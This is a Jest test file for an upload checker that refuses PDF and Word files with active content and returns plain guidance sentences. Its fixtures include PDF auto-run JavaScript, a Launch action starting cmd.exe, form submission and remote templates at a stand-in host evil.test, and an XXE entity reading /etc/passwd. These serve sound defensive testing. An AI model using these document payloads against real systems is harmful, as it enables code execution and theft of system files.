import { deflateSync } from 'node:zlib';
import { expect, test } from '@jest/globals';
import { doc, docx, pdf, png, wordParts, zip, type ZipPart } from '../../test/samples.js';
import { ActiveContent } from './active-content.js';
import type { FileKind } from './content.rules.js';

const activeContent = new ActiveContent();

/** The sentence that refuses the file; null when it is taken. */
async function refusal(kind: FileKind, file: Buffer): Promise<string | null> {
  async function* bytes() {
    yield file.subarray(0, 1_000);
    yield file.subarray(1_000);
  }
  try {
    await activeContent.refuse(kind, file.length, bytes);
    return null;
  } catch (error) {
    expect(error).toMatchObject({ status: 400, code: 'UNSUPPORTED_FILE' });
    return (error as Error).message;
  }
}

const SCRIPTS = 'This PDF contains scripts. Print it to a new PDF and upload that.';
const ACTIONS =
  'This PDF does something by itself or sends data elsewhere. Print it to a new PDF and upload that.';
const FILES = 'This PDF has other files in it. Print it to a new PDF and upload that.';
const CLOSED =
  'This PDF is protected, so it cannot be checked. Remove the password, or print it to a new PDF, and upload that.';
const UNREADABLE = 'This PDF cannot be checked. Print it to a new PDF and upload that.';

const pdfOf = (...parts: (string | Buffer)[]) =>
  Buffer.concat(
    ['%PDF-1.7\n', ...parts, '\ntrailer<</Root 1 0 R>>\n%%EOF\n'].map((part) => Buffer.from(part)),
  );
const objectStream = (content: string, dictionary = '/Filter/FlateDecode', packed = deflateSync(content)) =>
  Buffer.concat([
    Buffer.from(`9 0 obj<</Type/ObjStm/N 1/First 5${dictionary}/Length ${packed.length}>>stream\r\n`),
    packed,
    Buffer.from('\r\nendstream endobj\n'),
  ]);
/** As writers pack them: hundreds in one stream, of all kinds of bytes, so that it begins with a long table of codes. */
function manyObjects(): Buffer {
  const objects = Array.from({ length: 300 }, (_, index) => {
    const bytes = Array.from({ length: 40 }, (__, at) => 33 + ((index * 7_919 + at * 104_729) % 90));
    return `<</Type/Font/T<${Buffer.from(bytes).toString('hex')}>/Name(${String.fromCharCode(...bytes).replace(/[()\\\\/]/g, '.')})>>`;
  });
  let offset = 0;
  const table = objects.map((object, index) => {
    const entry = `${index + 10} ${offset}`;
    offset += object.length + 1;
    return entry;
  });
  return objectStream(`${table.join(' ')} ${objects.join(' ')}`);
}
const OPENED = '1 0 obj<</Type/Catalog/OpenAction ';
const SCRIPT = '<</S/JavaScript/JS(app.alert\\(1\\))>>';

test.each([
  [
    'a form',
    pdfOf('1 0 obj<</Type/Catalog/AcroForm<</Fields[2 0 R]>>>>endobj 2 0 obj<</FT/Tx/T(Name)>>endobj'),
  ],
  // As banks' forms have them.
  [
    'fields that format what is typed',
    pdfOf(`2 0 obj<</FT/Tx/T(SSN)/AA<</F ${SCRIPT}/K ${SCRIPT}>>>>endobj`),
  ],
  ['fields that format what is typed, packed', pdfOf(objectStream(`2 0  <</FT/Tx/AA<</C ${SCRIPT}>>>>`))],
  ['links to the web', pdfOf('3 0 obj<</Subtype/Link/A<</S/URI/URI(https://www.irs.gov)>>>>endobj')],
  ['a signature', pdfOf('4 0 obj<</Type/Sig/Filter/Adobe.PPKLite/Contents<00>/Reference[5 0 R]>>endobj')],
  ['a first page to show', pdfOf(`${OPENED}[3 0 R/Fit]>>endobj`)],
  [
    'a first page to show, by an action',
    pdfOf(`${OPENED}7 0 R>>endobj 7 0 obj<</S/GoTo/D[3 0 R/Fit]>>endobj`),
  ],
  [
    'a first page to show, packed',
    pdfOf(`${OPENED}7 0 R>>endobj `, objectStream('7 0  <</S/GoTo/D[3 0 R/Fit]>>')),
  ],
  ['a picture whose bytes are like anything', pdf('/JS /AA', 10_000)],
  [
    'scripts of its fields, and a picture in which three bytes are like an event',
    pdfOf(`2 0 obj<</FT/Tx/AA<</F ${SCRIPT}>>>>endobj 5 0 obj<<>>stream\n\x01/O%\x02\x03\nendstream endobj`),
  ],
  ['many different objects, packed together', pdfOf(manyObjects())],
])('a PDF with %s is taken', async (_, file) => {
  expect(await refusal('pdf', file)).toBeNull();
});

test.each([
  ['scripts of its own', SCRIPTS, '1 0 obj<</Names<</JavaScript 3 0 R>>>>endobj'],
  ['scripts whose name is in codes', SCRIPTS, '1 0 obj<</Names<</J#61va#53cript 3 0 R>>>>endobj'],
  ['scripts of its own behind a trap', SCRIPTS, '1 0 obj<</X/S/JavaScript 3 0 R>>endobj'],
  ['scripts of its own, packed', SCRIPTS, objectStream('2 0  <</Names<</JavaScript 3 0 R>>>>')],
  ['a form with a program in it', SCRIPTS, '1 0 obj<</AcroForm<</XFA 5 0 R>>>>endobj'],
  ['a web page in it', SCRIPTS, '<html><script>alert(1)</script></html>'],
  ['a script that runs when it is opened', ACTIONS, `${OPENED}${SCRIPT}>>endobj`],
  ['such a script elsewhere', ACTIONS, `${OPENED}7 0 R>>endobj 7 0 obj${SCRIPT}endobj`],
  ['such a script, packed', ACTIONS, pdfOf(`${OPENED}7 0 R>>endobj `, objectStream(`7 0  ${SCRIPT}`))],
  ['one after the page that it shows', ACTIONS, `${OPENED}<</S/GoTo/D[3 0 R]/Next ${SCRIPT}>>>>endobj`],
  ['an address that it opens', ACTIONS, `${OPENED}<</S/URI/URI(https://evil.test)>>>>endobj`],
  ['a script for each page behind comments', ACTIONS, `3 0 obj<</AA<</O % one\n % two\n ${SCRIPT}>>>>endobj`],
  [
    'a script for each page behind a long one',
    ACTIONS,
    `3 0 obj<</AA<</O %${'x'.repeat(900)}\n${SCRIPT}>>>>endobj`,
  ],
  ['a script for each page', ACTIONS, `3 0 obj<</Type/Page/AA<</O ${SCRIPT}>>>>endobj`],
  ['a program that it starts', ACTIONS, '3 0 obj<</S/Launch/F(cmd.exe)>>endobj'],
  ['a form that sends itself', ACTIONS, '3 0 obj<</S/SubmitForm/F(https://evil.test)>>endobj'],
  ['data that it takes in', ACTIONS, '3 0 obj<</S/ImportData/F(x.fdf)>>endobj'],
  ['another document that it opens', ACTIONS, '3 0 obj<</S/GoToR/F(//evil.test/x)>>endobj'],
  ['attached files', FILES, '1 0 obj<</Names<</EmbeddedFiles 3 0 R>>>>endobj'],
  ['a file behind a pin', FILES, '3 0 obj<</Subtype/FileAttachment/FS<</EF<</F 5 0 R>>>>>>endobj'],
  ['a film', FILES, '3 0 obj<</Subtype/RichMedia>>endobj'],
  ['a password', CLOSED, '1 0 obj<<>>endobj trailer<</Encrypt 5 0 R>>'],
  [
    'objects packed in a way that we do not unpack',
    UNREADABLE,
    objectStream('2 0 null', '/Filter/LZWDecode', Buffer.from('x')),
  ],
  [
    'objects that are broken',
    UNREADABLE,
    objectStream('', '', deflateSync('2 0 null'.repeat(99)).fill(0, 20)),
  ],
  ['objects that unpack without end', UNREADABLE, objectStream(`2 0 ${' '.repeat(40_000_000)}`)],
  ['more streams than a document has', UNREADABLE, 'stream\n'.repeat(10_001)],
])('a PDF with %s is refused, with what to do', async (_, sentence, part) => {
  const file = Buffer.isBuffer(part) && part.subarray(0, 4).toString() === '%PDF' ? part : pdfOf(part);
  expect(await refusal('pdf', file)).toBe(sentence);
});

const MACROS = 'This document contains macros. Save it as a PDF and upload that.';
const OBJECTS = 'This document has other files in it. Save it as a PDF and upload that.';
const ELSEWHERE =
  'This document loads something from elsewhere, such as a template or a picture. Save it as a PDF and upload that.';
const NOT_CHECKED = 'This document cannot be checked. Save it as a PDF and upload that.';

const RELATIONS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const relation = (type: string, more: string): ZipPart => ({
  name: 'word/_rels/document.xml.rels',
  content: `<Relationships><Relationship Id="r1" Type="${RELATIONS}/${type}" ${more}/></Relationships>`,
});
const typed = (type: string) =>
  zip([
    { ...wordParts()[0]!, content: `<Types><Override ContentType="${type}"/></Types>` },
    ...wordParts().slice(1),
  ]);
const withPart = (...parts: ZipPart[]) => zip([...wordParts(), ...parts]);
const OLE = Buffer.from('d0cf11e0a1b11ae1', 'hex');

test.each([
  ['nothing else', docx()],
  ['a link to the web', withPart(relation('hyperlink', 'Target="https://irs.gov" TargetMode="External"'))],
  ['a picture', withPart({ name: 'word/media/scan.png', content: png() })],
])('a DOCX with %s is taken', async (_, file) => {
  expect(await refusal('docx', file)).toBeNull();
});

test.each([
  ['macros', MACROS, withPart({ name: 'word/vbaProject.bin', content: 'x' })],
  ['macros, by the case', MACROS, withPart({ name: 'word/VBAproject.BIN', content: 'x' })],
  ['macros under another name', MACROS, withPart({ name: 'word/media/scan.jpg', content: OLE })],
  ['macros by its type', MACROS, typed('application/vnd.ms-word.document.macroEnabled.main+xml')],
  ['macros by a relation', MACROS, withPart(relation('vbaProject', 'Target="a.xml"'))],
  ['an embedded object', OBJECTS, withPart({ name: 'word/embeddings/x.xlsx', content: 'x' })],
  ['a control', OBJECTS, withPart({ name: 'word/activeX/activeX1.xml', content: '<x/>' })],
  ['a control by its type', OBJECTS, typed('application/vnd.ms-office.activeX+xml')],
  ['a document within', OBJECTS, withPart(relation('aFChunk', 'Target="x.html"'))],
  [
    'a template that looks like a link',
    ELSEWHERE,
    withPart({
      name: 'word/_rels/settings.xml.rels',
      content: `<Relationships><Relationship xmlns:q=' Type="a/hyperlink"' Id="r1" Type="${RELATIONS}/attachedTemplate" Target="https://evil.test/t.dotm" TargetMode="External"/></Relationships>`,
    }),
  ],
  [
    'a template elsewhere',
    ELSEWHERE,
    withPart(relation('attachedTemplate', 'Target="https://evil.test/t.dotm" TargetMode="External"')),
  ],
  [
    'a picture elsewhere',
    ELSEWHERE,
    withPart(relation('image', 'Target="//evil.test/x" TargetMode="External"')),
  ],
  [
    'a template elsewhere in codes',
    ELSEWHERE,
    withPart(relation('attachedTemplate', 'Target="//evil.test" TargetMode="&#69;xternal"')),
  ],
  [
    'a document type',
    NOT_CHECKED,
    withPart({
      name: 'word/a.xml',
      content: '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    }),
  ],
  [
    'a document type in UTF-16',
    NOT_CHECKED,
    withPart({ name: 'word/a.xml', content: Buffer.from('\ufeff<!DOCTYPE a><a/>', 'utf16le') }),
  ],
  [
    'a part larger than it says',
    NOT_CHECKED,
    withPart({ name: 'word/a.xml', content: 'a'.repeat(100_000), claims: { unpackedBytes: 10 } }),
  ],
  [
    'a part smaller than it says',
    NOT_CHECKED,
    withPart({ name: 'word/a.xml', content: 'a', claims: { unpackedBytes: 10 } }),
  ],
  [
    'a part of another name than it says',
    NOT_CHECKED,
    Buffer.from(docx().toString('latin1').replace('word/document', 'word/vbaProjec'), 'latin1'),
  ],
])('a DOCX with %s is refused, with what to do', async (_, sentence, file) => {
  expect(await refusal('docx', file)).toBe(sentence);
});

test.each([
  ['/OpenAction 5 0 R '],
  ['5 0 obj '],
  ['/ObjStm '],
  ['/S/JavaScript/JS'],
  ['/AA<</O '],
  ['#41'],
  ['<<'],
  ['0'],
  ['stream\n'],
  ['stream\n1 0 '],
  [' '],
])('10 MB of %j cost a look no more than their size beside 2 MB', async (text) => {
  /** Microseconds of this process. */
  const costOf = async (bytes: number) => {
    const file = pdfOf('/OpenAction 5 0 R /S/JavaScript/JS /AA ', text.repeat(bytes / text.length));
    const before = process.cpuUsage();
    await refusal('pdf', file);
    const { user, system } = process.cpuUsage(before);
    return user + system;
  };
  await costOf(2_000_000); // the first look compiles
  let small = Infinity;
  let large = Infinity;
  // Five times as much; what grows with the square costs twenty-five times as much. A look that is over at once costs
  // little more than what it is measured with.
  const most = () => 12 * small + 200_000;
  // What else the machine does only ever adds to a look: the cheapest of several is what it costs.
  for (let looks = 0; looks < 5 && !(large < most()); looks += 1) {
    small = Math.min(small, await costOf(2_000_000));
    large = Math.min(large, await costOf(10_000_000));
  }
  expect(large).toBeLessThan(most());
});

/** Adds an entry to the directory of a DOC. */
function docWith(name: string): Buffer {
  const file = doc();
  file.write(name, 4_352, 'utf16le');
  file.writeUInt16LE((name.length + 1) * 2, 4_352 + 64);
  file[4_352 + 66] = 1;
  return file;
}

test('a DOC is taken, whatever its text says, and refused for macros and objects', async () => {
  expect(await refusal('doc', doc())).toBeNull();
  const text = doc();
  text.write('Macros and VBA are not allowed', 6_000, 'utf16le');
  expect(await refusal('doc', text)).toBeNull();
  for (const name of ['Macros', 'VBA', '_VBA_PROJECT'])
    expect(await refusal('doc', docWith(name))).toBe(MACROS);
  expect(await refusal('doc', docWith('\x01Ole10Native'))).toBe(OBJECTS);
});

test('whatever is broken in a file ends in a sentence or not at all', async () => {
  const whole = [pdfOf(objectStream(`7 0  ${SCRIPT}`), OPENED), docx(), docWith('Macros')] as const;
  for (const [index, kind] of (['pdf', 'docx', 'doc'] as const).entries())
    for (let at = 0; at < whole[index]!.length; at += 7) {
      const broken = Buffer.from(whole[index]!);
      broken[at]! ^= 0xff;
      await refusal(kind, broken);
      await refusal(kind, broken.subarray(0, at));
    }
});
